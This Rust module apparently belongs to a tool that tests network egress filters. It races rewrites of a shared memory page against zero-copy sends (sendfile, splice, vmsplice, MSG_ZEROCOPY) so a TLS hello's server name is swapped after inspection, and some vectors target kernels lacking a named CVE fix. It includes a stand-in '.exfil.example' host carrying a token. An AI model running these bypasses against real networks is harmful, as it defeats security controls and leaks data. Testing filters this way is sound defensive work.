//! Hellos in memory that the program still holds when they are under way: the name is exchanged
//! behind the look at it.
//!
//! A send that shares pages (`sendfile`, `splice`, `MSG_ZEROCOPY`) hands the kernel the page, not
//! a copy of it. Whoever can still write that page writes the packet.

use std::{
    io::Read,
    net::{TcpListener, TcpStream},
    os::fd::{AsRawFd, OwnedFd},
    thread,
    time::{Duration, Instant},
};

use libc::IPPROTO_TCP;
use nix::errno::Errno;

use super::{
    Attempt, Job, Stop, Vector, sys,
    tls::{DECLARED, ask_for_retry_on, hello, linger, sys_open, vector},
};
use crate::{
    hello::build::{Hello, PADDING, SERVER_NAME, server_name},
    zone,
};

/// Length of both hellos.
const LENGTH: usize = 600;
/// A page.
const PAGE: usize = 4096;
/// Each try is a race. Without a confinement one in two wins.
const TRIES: usize = 25;
/// An extension that nobody knows.
const UNKNOWN: u16 = 0x7a7a;
/// `tcpi_total_retrans` in the words of [`sys::tcp_info`].
const SENT_AGAIN: usize = 25;
/// What a wrong guess costs.
const SETTLE: Duration = Duration::from_millis(20);

pub(super) const VECTORS: &[Vector] = &[
    vector(
        "page-sendfile",
        "sendfile, the page rewritten behind it",
        |job| race(job, |socket, page| sendfile(&page.file, socket, LENGTH)),
    ),
    vector(
        "page-splice",
        "vmsplice and splice, the page rewritten",
        |job| {
            race(job, |socket, page| {
                let pipe = Pipe::new()?;
                pipe.give(page)?;
                pipe.splice(socket, LENGTH, 0)
            })
        },
    ),
    vector(
        "page-splice-file",
        "splice of a file, the page rewritten",
        |job| {
            race(job, |socket, page| {
                let pipe = Pipe::new()?;
                pipe.take(&page.file, LENGTH)?;
                pipe.splice(socket, LENGTH, 0)
            })
        },
    ),
    vector(
        "page-splice-more",
        "spliced in two halves, the first one waiting",
        |job| {
            race(job, |socket, page| {
                let pipe = Pipe::new()?;
                pipe.give(page)?;
                pipe.splice(socket, LENGTH / 2, libc::SPLICE_F_MORE as usize)?;
                pipe.splice(socket, LENGTH - LENGTH / 2, 0)
            })
        },
    ),
    vector("page-tee", "tee, then splice of the copy", |job| {
        race(job, |socket, page| {
            let (pipe, copy) = (Pipe::new()?, Pipe::new()?);
            pipe.give(page)?;
            let arguments = [pipe.reader(), copy.writer(), LENGTH, 0];
            sys::call(libc::SYS_tee, &arguments)?;
            copy.splice(socket, LENGTH, 0)
        })
    }),
    vector(
        "page-zerocopy",
        "MSG_ZEROCOPY, the page rewritten while the packet waits for a slow wire",
        |job| {
            race(job, |socket, page| {
                let one = 1i32.to_ne_bytes();
                sys::set(socket, libc::SOL_SOCKET, libc::SO_ZEROCOPY, &one)?;
                page.send(socket, LENGTH, libc::MSG_ZEROCOPY)
            })
        },
    )
    .optional(),
    vector(
        "page-behind-head",
        "the head written, the name from a page",
        |job| {
            race(job, |socket, page| {
                // Of one segment: what is written waits for the rest.
                page.send(socket, 60, libc::MSG_MORE)?;
                send_from(&page.file, socket, 60, LENGTH - 60)
            })
        },
    ),
    vector(
        "page-corked",
        "corked, a page in the middle of what is written",
        |job| {
            race(job, |socket, page| {
                sys::set(socket, IPPROTO_TCP, libc::TCP_CORK, &1i32.to_ne_bytes())?;
                sendfile(&page.file, socket, LENGTH - 10)?;
                sys::send(socket, &page.read()[LENGTH - 10..], 0, &[])?;
                sys::set(socket, IPPROTO_TCP, libc::TCP_CORK, &0i32.to_ne_bytes())
            })
        },
    ),
    vector(
        "page-own-socket",
        "the page through a connection of one's own first",
        |job| {
            race(job, |socket, page| {
                let listener = TcpListener::bind("127.0.0.1:0").map_err(errno)?;
                let near =
                    TcpStream::connect(listener.local_addr().map_err(errno)?).map_err(errno)?;
                let (far, _) = listener.accept().map_err(errno)?;
                sendfile(&page.file, &near.into(), LENGTH)?;
                let pipe = Pipe::new()?;
                let arguments = [far.as_raw_fd() as usize, 0, pipe.writer(), 0, LENGTH, 0];
                sys::call(libc::SYS_splice, &arguments)?;
                pipe.splice(socket, LENGTH, 0)
            })
        },
    ),
    vector(
        "page-middle",
        "a page behind octets that were written, all at once",
        |job| {
            race(job, |socket, page| {
                sys::send(socket, &page.read()[..5], libc::MSG_MORE, &[])?;
                let pipe = Pipe::new()?;
                pipe.take(&page.file, LENGTH)?;
                let mut head = [0; 5];
                (&pipe.0).read_exact(&mut head).map_err(errno)?;
                pipe.splice(socket, LENGTH - 5, 0)
            })
        },
    ),
    vector(
        "page-collapsed",
        "one octet written, the rest from a page; what is sent again is one packet of both",
        collapsed,
    ),
    vector(
        "page-grown",
        "half of it written, half from a page, to a server with a small window",
        grown,
    ),
    vector(
        "page-second-hello",
        "the hello that is asked for again, from a page",
        |job| {
            race_from(job, true, |socket, page| {
                sendfile(&page.file, socket, LENGTH)
            })
        },
    ),
];

/// Says the declared name by `send`, and writes the stranger's over it the moment that the call
/// is back; again and again. In the control run both are the declared one.
fn race(job: &Job, send: Send) -> Attempt {
    race_from(job, false, send)
}

type Send = fn(&OwnedFd, &Page) -> Result<(), Errno>;

fn race_from(job: &Job, behind_a_first: bool, send: Send) -> Attempt {
    // The token is in the stranger's name alone, so that only the exchange delivers it.
    let declared = of_length(Hello::named(DECLARED));
    let stranger = of_length(hello(job));
    let once = || {
        let page = Page::with(&declared)?;
        // What is crowded out on the wire costs a try.
        let Ok(socket) = sys_open(job) else {
            return Ok(None);
        };
        if behind_a_first && ask_for_retry_on(&socket).is_err() {
            return Ok(None);
        }
        crowd(job)?;
        let sent = send(&socket, &page);
        page.memory.write(0, &stranger);
        sent?;
        Ok::<_, Stop>(Some(socket))
    };
    for _ in 0..TRIES {
        let _held = once()?;
        thread::sleep(SETTLE);
    }
    match once()? {
        Some(socket) => linger(socket.into()),
        None => Err(Stop::Refused("nobody answered".to_owned())),
    }
}

/// A first octet alone is no hello and waits to be sent again. Kernels without the mending of
/// CVE-2026-43503 forget, when they put it together with what was sent behind it, that this is a
/// page that others hold.
fn collapsed(job: &Job) -> Attempt {
    let declared = of_length(Hello::named(DECLARED));
    let stranger = of_length(hello(job));
    for turn in 0..8 {
        let page = Page::with(&declared)?;
        let socket = sys_open(job)?;
        sys::set(&socket, IPPROTO_TCP, libc::TCP_NODELAY, &1i32.to_ne_bytes())?;
        sys::send(&socket, &declared[..1], 0, &[])?;
        thread::sleep(SETTLE);
        send_from(&page.file, &socket, 1, LENGTH - 1)?;
        // Half of the tries win where nothing is held back.
        let end = Instant::now() + Duration::from_millis(600);
        while turn % 2 == 1 && Instant::now() < end && sys::tcp_info(&socket)?[SENT_AGAIN] == 0 {}
        page.memory.write(0, &stranger);
        thread::sleep(SETTLE);
    }
    Ok(())
}

/// For a small window the kernel makes two packets of this, and puts them together when it sends
/// the first one again. Kernels without the mending of CVE-2026-43503 forget then, too.
fn grown(job: &Job) -> Attempt {
    let half = usize::from(zone::SMALL_WINDOW) / 2;
    // The written halves are the same: the name is in the other one, which is as long in both.
    let with_name_last = |name: &str| {
        let hello = Hello::nameless().padded(half + 40);
        let hello = hello.with(SERVER_NAME, server_name(&[(0, name.as_bytes())]));
        let missing = (half + 300).saturating_sub(hello.record().len() + 4);
        hello.with(UNKNOWN, vec![0; missing]).record()
    };
    let declared = with_name_last("small-window.example");
    let stranger = with_name_last(&format!("{}.exfil.example", job.token));
    for _ in 0..TRIES {
        let page = Page::with(&declared)?;
        let socket = sys::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
        sys::connect(&socket, &sys::address((zone::TIGHT, 443)))?;
        sys::send(&socket, &declared[..half], 0, &[])?;
        send_from(&page.file, &socket, half as i64, declared.len() - half)?;
        page.memory.write(0, &stranger);
        thread::sleep(SETTLE);
    }
    Ok(())
}

/// Puts declared packets in front, behind which others wait where the wire is slow.
fn crowd(job: &Job) -> Result<(), Errno> {
    let socket = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    for _ in 0..4 {
        sys::send(&socket, &[0; 1400], 0, &sys::address(job.permitted))?;
    }
    Ok(())
}

fn of_length(hello: Hello) -> Vec<u8> {
    let hello = hello.padded(LENGTH);
    debug_assert!(hello.extensions.iter().any(|(kind, _)| *kind == PADDING));
    hello.record()
}

/// One page of a file in memory, mapped.
struct Page {
    file: OwnedFd,
    memory: sys::Memory,
}

impl Page {
    fn with(bytes: &[u8]) -> Result<Self, Errno> {
        let file = sys::call_fd(libc::SYS_memfd_create, &[c"page".as_ptr() as usize, 0])?;
        sys::call(libc::SYS_ftruncate, &[file.as_raw_fd() as usize, PAGE])?;
        let memory = sys::Memory::of(&file, PAGE, 0)?;
        memory.write(0, bytes);
        Ok(Self { file, memory })
    }

    fn read(&self) -> Vec<u8> {
        self.memory.read(0, LENGTH)
    }

    /// send(2) from the page itself.
    fn send(&self, socket: &OwnedFd, length: usize, flags: i32) -> Result<(), Errno> {
        let arguments = [
            socket.as_raw_fd() as usize,
            self.memory.start,
            length,
            (flags | libc::MSG_NOSIGNAL) as usize,
            0,
            0,
        ];
        sys::call(libc::SYS_sendto, &arguments).map(drop)
    }
}

/// Reading and writing end.
struct Pipe(std::io::PipeReader, std::io::PipeWriter);

impl Pipe {
    fn new() -> Result<Self, Errno> {
        let (reader, writer) = std::io::pipe().map_err(errno)?;
        Ok(Self(reader, writer))
    }

    fn reader(&self) -> usize {
        self.0.as_raw_fd() as usize
    }

    fn writer(&self) -> usize {
        self.1.as_raw_fd() as usize
    }

    /// vmsplice(2)
    fn give(&self, page: &Page) -> Result<(), Errno> {
        let part = [page.memory.start, LENGTH];
        let arguments = [self.writer(), sys::place(&part), 1, 0];
        sys::call(libc::SYS_vmsplice, &arguments).map(drop)
    }

    /// splice(2) of a file into the pipe.
    fn take(&self, file: &OwnedFd, length: usize) -> Result<(), Errno> {
        let start = 0i64;
        let arguments = [
            file.as_raw_fd() as usize,
            sys::place(&start),
            self.writer(),
            0,
            length,
            0,
        ];
        sys::call(libc::SYS_splice, &arguments).map(drop)
    }

    /// splice(2) out of the pipe.
    fn splice(&self, to: &OwnedFd, length: usize, flags: usize) -> Result<(), Errno> {
        let arguments = [self.reader(), 0, to.as_raw_fd() as usize, 0, length, flags];
        sys::call(libc::SYS_splice, &arguments).map(drop)
    }
}

fn sendfile(from: &OwnedFd, to: &OwnedFd, length: usize) -> Result<(), Errno> {
    send_from(from, to, 0, length)
}

fn send_from(from: &OwnedFd, to: &OwnedFd, start: i64, length: usize) -> Result<(), Errno> {
    let arguments = [
        to.as_raw_fd() as usize,
        from.as_raw_fd() as usize,
        sys::place(&start),
        length,
    ];
    sys::call(libc::SYS_sendfile, &arguments).map(drop)
}

fn errno(error: std::io::Error) -> Errno {
    error.raw_os_error().map_or(Errno::EIO, Errno::from_raw)
}
